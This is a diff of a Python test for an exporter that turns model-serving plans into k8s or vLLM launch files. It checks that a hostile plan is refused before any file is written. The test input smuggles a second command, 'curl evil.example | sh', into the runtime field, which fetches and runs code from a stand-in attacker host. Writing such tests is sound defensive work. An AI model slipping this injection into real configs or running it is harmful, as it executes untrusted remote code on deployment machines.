@@ -119,10 +119,10 @@ def test_a_hostile_plan_file_cannot_add_a_command_or_a_zero_shape(catalog: Any) 
     doc = result("llama-3.1-8b", "vllm", [("h100-sxm", 1, 1, 1)])
     evil = doc.plans[0].model_copy(update={"runtime": "vllm\ncurl evil.example | sh"})
     hostile = doc.model_copy(update={"plans": [evil]})
-    with pytest.raises(ExportError):  # an unknown runtime has no launch command
-        export(hostile, catalog, "k8s", workload=WORKLOAD)
-    (artifact,) = export(hostile, catalog, "vllm", workload=WORKLOAD)
-    assert not any(line.startswith("curl") for line in artifact.content.splitlines())
+    for fmt in ("k8s", "vllm"):  # a runtime the catalog lacks is refused before any file is written
+        with pytest.raises(ExportError, match="not in this catalog") as err:
+            export(hostile, catalog, fmt, workload=WORKLOAD)
+        assert "\n" not in str(err.value)  # the id is quoted (repr), its newline escaped
     zero = doc.model_copy(update={"plans": [doc.plans[0].model_copy(update={"deployments": [
         doc.plans[0].deployments[0].model_copy(update={"tp": 0})]})]})
     with pytest.raises(ExportError, match="at least 1"):
